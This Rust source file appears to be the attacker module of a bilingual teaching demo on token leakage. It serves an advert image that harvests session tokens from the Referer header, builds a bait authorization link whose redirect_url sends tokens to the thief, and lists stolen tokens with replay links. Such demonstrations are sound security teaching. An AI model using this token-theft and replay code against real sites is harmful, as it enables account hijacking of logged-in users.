//! A third party that reads tokens out of addresses.

use super::{AUTHORIZE, PAGE, page};
use app_kernel::{Origin, path};
use axum::{
    Router,
    extract::{Query, State},
    http::{
        HeaderMap,
        header::{CACHE_CONTROL, CONTENT_TYPE, REFERER},
    },
    response::{IntoResponse, Response},
    routing::get,
};
use serde::Deserialize;
use std::{
    collections::VecDeque,
    sync::{Arc, Mutex, PoisonError},
};

/// The most addresses that are kept.
const MOST: usize = 20;
const ADVERT: &str = "<svg xmlns='http://www.w3.org/2000/svg' width='240' height='60'><rect width='240' height='60' fill='#fc3'/>\
    <text x='120' y='38' text-anchor='middle' font-size='22'>限时特价 SALE</text></svg>";

#[derive(Clone)]
struct Thief {
    own: Origin,
    authority: Origin,
    site: Origin,
    loot: Arc<Mutex<VecDeque<Loot>>>,
}

/// A token, and how it came.
#[derive(Clone)]
struct Loot {
    token: String,
    way: &'static str,
}

/// The thief at `own`, who knows the authority and one site.
pub fn thief(own: &Origin, authority: &Origin, site: &Origin) -> Router {
    let thief = Thief {
        own: own.clone(),
        authority: authority.clone(),
        site: site.clone(),
        loot: Arc::default(),
    };
    Router::new()
        .route("/", get(loot))
        .route("/advert.svg", get(advert))
        .with_state(thief)
}

/// A picture on somebody else's page: the browser says with it where it is shown.
async fn advert(State(thief): State<Thief>, headers: HeaderMap) -> Response {
    let referer = headers.get(REFERER).and_then(|referer| referer.to_str().ok());
    let token = referer
        .and_then(|referer| referer.split_once("token="))
        .map(|(_, token)| token);
    if let Some(token) = token {
        thief.take(token, "Referer");
    }
    let headers = [(CONTENT_TYPE, "image/svg+xml"), (CACHE_CONTROL, "no-store")];
    (headers, ADVERT).into_response()
}

#[derive(Deserialize)]
struct Sent {
    token: Option<String>,
}

/// The loot, and the two links: one that uses a token, one that gets another.
async fn loot(State(thief): State<Thief>, Query(sent): Query<Sent>) -> Response {
    if let Some(token) = &sent.token {
        thief.take(token, "redirect");
    }
    let loot = thief.loot.lock().unwrap_or_else(PoisonError::into_inner).clone();
    let rows: Vec<_> = loot.iter().map(|loot| thief.row(loot)).collect();
    let rows = rows.concat();
    let home = thief.own.at("/");
    let bait = thief.authority.at(&format!(
        "{AUTHORIZE}?{}",
        path::query(&[("redirect_url", &home)])
    ));
    let body = format!(
        "<h1>小偷 The thief</h1>\
         <p>我没有密码，也没有 cookie，只看到了别人的地址。换一个浏览器点「冒充」也一样。</p>\
         <p lang=\"en\">I have no password and no cookie, only somebody's address. “Use it” works in any other browser as well.</p>\
         <ul>{rows}</ul>\
         <p><a href=\"{}\">把这个链接发给已登录的人，令牌就送到我这里 \
         <span lang=\"en\">Send this link to somebody who is logged in, and the token comes to me</span></a></p>",
        page::escape(&bait)
    );
    page::respond("小偷 The thief", &body, None)
}

impl Thief {
    /// A line of the list, with the link that uses the token.
    fn row(&self, Loot { token, way }: &Loot) -> String {
        let replay = self
            .site
            .at(&format!("{PAGE}?{}", path::query(&[("token", token)])));
        format!(
            "<li>{way}: <code>{}…</code> · <a href=\"{}\">冒充 <span lang=\"en\">Use it</span></a></li>",
            page::escape(&token.chars().take(8).collect::<String>()),
            page::escape(&replay)
        )
    }

    fn take(&self, token: &str, way: &'static str) {
        let mut loot = self.loot.lock().unwrap_or_else(PoisonError::into_inner);
        if loot.iter().any(|known| known.token == token && known.way == way) {
            return;
        }
        loot.truncate(MOST - 1);
        loot.push_front(Loot {
            token: token.to_owned(),
            way,
        });
    }
}
